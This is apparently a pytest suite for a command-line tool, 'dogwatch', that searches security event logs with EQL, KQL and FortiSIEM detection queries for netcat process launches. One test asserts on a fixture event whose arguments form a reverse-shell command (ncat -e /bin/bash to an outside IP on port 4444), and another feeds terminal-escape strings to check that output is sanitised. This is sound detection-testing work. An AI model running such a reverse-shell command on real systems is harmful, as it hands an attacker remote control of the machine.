"""What ``dogwatch search`` finds and prints, and how it ends."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

import pytest
from invocation import PROGRAM, SHELL, environment, process_start, run, write_events
from rich.cells import cell_len

SEQUENCE = 'sequence by process.entity_id [process where process.name == "ncat"] [network where true]'


@pytest.mark.parametrize(
    ("language", "query"),
    [
        ("eql", 'process where process.name == "ncat"'),
        ("kql", "event.category: process and process.name: ncat"),
        ("kuery", "event.category: process and process.name: ncat"),
        ("KQL", "event.category: process and process.name: ncat"),
        ("fortisiem", 'eventType = "LINUX_PROCESS_EXEC" AND procName IN ("nc", "ncat")'),
    ],
)
def test_a_hit_is_its_event(language: str, query: str) -> None:
    outcome = run("search", language, query, SHELL)
    assert outcome.status == 0
    assert outcome.err == ""
    (event,) = outcome.documents
    assert event["process"]["name"] == "ncat"
    assert event["process"]["args"] == ["ncat", "-e", "/bin/bash", "203.0.113.66", "4444"]


def test_a_sequence_is_its_keys_and_events() -> None:
    (sequence,) = run("search", "eql", SEQUENCE, SHELL).documents
    assert set(sequence) == {"join_keys", "events"}
    start, connection = sequence["events"]
    assert sequence["join_keys"] == [start["process"]["entity_id"]] == [connection["process"]["entity_id"]]
    assert connection["destination"]["ip"] == "203.0.113.66"


@pytest.mark.parametrize(
    ("language", "query", "code", "column"),
    [
        ("eql", "process where ==", "eql-syntax", 14),
        ("kql", "user.name:(root", "kql-syntax", 10),
        ("fortisiem", "procName IN (", "fortisiem-syntax", None),
    ],
)
def test_a_syntax_error_has_a_caret(language: str, query: str, code: str, column: int | None) -> None:
    outcome = run("search", language, query, SHELL)
    assert outcome.status == 2
    assert outcome.out == ""
    assert outcome.err.startswith(f"error: {code}: ")
    _, _, shown, caret, *_ = outcome.err.splitlines()
    assert shown.strip() == query
    assert set(caret.strip()) == {"^"}
    if column is not None:
        assert caret.index("^") - shown.index(query[0]) == column


def test_an_unknown_field_is_a_warning_with_the_likely_one() -> None:
    outcome = run("search", "eql", 'process where process.nam == "nc"', SHELL)
    assert outcome.status == 0
    assert outcome.out == ""
    assert "warning: unknown-field: `process.nam`" in outcome.err
    assert "process.name" in outcome.err


@pytest.mark.parametrize("arguments", [("eql",), ("spl", "x"), ("eql", "any where true", "--size", "-1")])
def test_usage_errors(arguments: tuple[str, ...]) -> None:
    outcome = run("search", *arguments)
    assert outcome.status == 2
    assert outcome.err


class TestSize:
    def test_at_most_so_many_and_a_word_that_there_are_more(self) -> None:
        outcome = run("search", "eql", "any where true", SHELL, "--size", "3")
        assert len(outcome.documents) == 3
        assert "more than 3 hits" in outcome.err

    def test_exactly_so_many_needs_no_word(self) -> None:
        outcome = run("search", "eql", "any where true", SHELL, "--size", "16")
        assert len(outcome.documents) == 16
        assert outcome.err == ""

    def test_none(self) -> None:
        assert run("search", "eql", "any where true", SHELL, "--size", "0").out == ""


class TestInputs:
    def test_a_missing_file(self, tmp_path: Path) -> None:
        outcome = run("search", "eql", "any where true", tmp_path / "missing")
        assert outcome.status == 2
        assert "no-such-file" in outcome.err

    def test_a_missing_file_beside_a_good_one(self, tmp_path: Path) -> None:
        outcome = run("search", "eql", "any where true", SHELL, tmp_path / "missing")
        assert outcome.status == 3
        assert len(outcome.documents) == 16

    def test_standard_input(self) -> None:
        ended = subprocess.run(
            [*PROGRAM, "search", "kql", "process.name: nc"],
            input=json.dumps(process_start()) + "\n" + json.dumps(process_start("bash", 1)) + "\n",
            capture_output=True,
            text=True,
            env=environment(),
            timeout=60,
            check=True,
        )
        assert json.loads(ended.stdout)["process"]["name"] == "nc"
        assert ended.stderr == ""


class TestTable:
    @pytest.mark.parametrize("width", [60, 80, 200])
    def test_it_fits_the_terminal(self, width: int) -> None:
        for query in ("any where true", SEQUENCE):
            lines = run("search", "eql", query, SHELL, "--format", "table", width=width).out.splitlines()
            assert lines
            assert max(map(cell_len, lines)) <= width

    def test_events_of_a_sequence_share_a_number(self) -> None:
        lines = run("search", "eql", SEQUENCE, SHELL, "--format", "table", width=200).out.splitlines()
        assert [line.split()[0] for line in lines[-2:]] == ["1", "1"]

    def test_nothing_found(self) -> None:
        assert "Nothing was found." in run("search", "eql", "any where false", SHELL, "--format", "table").out

    def test_what_was_typed_is_only_text(self, tmp_path: Path) -> None:
        hostile = "nc \x1b[2J [red]x[/red] \u202e :skull:"
        path = write_events(tmp_path / "events.ndjson", process_start(hostile))
        outcome = run("search", "eql", "process where true", path, "--format", "table", width=200)
        assert "\x1b" not in outcome.out
        assert "\u202e" not in outcome.out
        assert r"\x1b[2J [red]x[/red] \u202e :skull:" in outcome.out
